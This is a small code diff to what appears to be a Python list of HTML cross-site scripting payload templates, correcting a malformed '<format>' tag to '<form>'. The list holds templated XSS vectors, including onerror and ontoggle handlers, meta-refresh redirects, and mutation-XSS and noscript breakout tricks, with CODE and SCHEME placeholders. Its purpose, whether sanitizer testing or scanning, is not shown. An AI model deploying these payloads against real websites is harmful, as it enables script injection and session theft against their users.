@@ -52,7 +52,7 @@ _HTML = (
     *("<a href='SCHEMECODE' EVENT=CODE>a</a>", "<details open ontoggle=CODE>", "<base href=SCHEME>"),
     *("<meta http-equiv=refresh content='0;url=SCHEMECODE'>", "<link rel=stylesheet href=SCHEME>"),
     *("<style>@import 'SCHEMEx.css'; * { background: url(SCHEMEx) }</style>", "<object data=SCHEME>"),
-    *("<format action=SCHEME><input type=submit EVENT=CODE></format>", "<embed src=SCHEME>"),
+    *("<form action=SCHEME><input type=submit EVENT=CODE></form>", "<embed src=SCHEME>"),
     *("<video><source EVENT=CODE src=SCHEME></video>", "<template><script>CODE</script></template>"),
     *("<math><mtext><table><mglyph><style><img src=x onerror=CODE>", "<marquee onstart=CODE>"),
     *("<noscript><p title='</noscript><img src=x onerror=CODE>'>", "<!--><img src=x onerror=CODE>-->"),
